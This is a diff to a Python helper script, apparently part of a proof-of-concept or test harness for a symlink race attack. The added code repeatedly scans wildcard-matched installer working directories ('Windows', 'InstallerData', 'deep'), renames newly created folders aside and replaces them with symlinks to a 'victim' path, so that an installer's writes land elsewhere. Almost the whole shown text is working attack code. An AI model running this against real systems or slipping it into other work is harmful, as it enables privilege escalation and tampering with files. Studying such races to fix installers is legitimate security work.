@@ -8,7 +8,12 @@ in it, then, renamed away, a link to the victim.
 
 With MARKER the folder is first made (mode 0755) with an empty file of
 that name in it: a tree planted to look like one an interrupted run left.
+
+A FOLDER with a wildcard ("base/I*") stands for every folder it matches
+(the working directories of runs as they appear): in each, the folders a
+payload makes are planted as links, or swapped for them once made.
 """
+import glob
 import os
 import shutil
 import sys
@@ -23,8 +28,29 @@ def make_dir(path):
         f.write(b"attacker")
 
 
+def plant(pattern, victim, stop):
+    moved = 0
+    while not os.path.exists(stop):
+        for tree in glob.glob(pattern):
+            for name in ("Windows", "InstallerData", "deep"):
+                path = os.path.join(tree, name)
+                if name == "deep":
+                    path = os.path.join(tree, "InstallerData", name)
+                try:
+                    if os.path.isdir(path) and not os.path.islink(path):
+                        moved += 1
+                        os.rename(path, os.path.join(os.path.dirname(tree), "aside-%d" % moved))
+                    os.symlink(victim, path)
+                except OSError:
+                    pass
+
+
 def main():
     folder, victim, stop = sys.argv[1:4]
+    if "*" in folder:
+        print("ready", flush=True)
+        plant(folder, victim, stop)
+        return
     if len(sys.argv) > 4:
         os.makedirs(folder, mode=0o755)
         open(os.path.join(folder, sys.argv[4]), "wb").close()
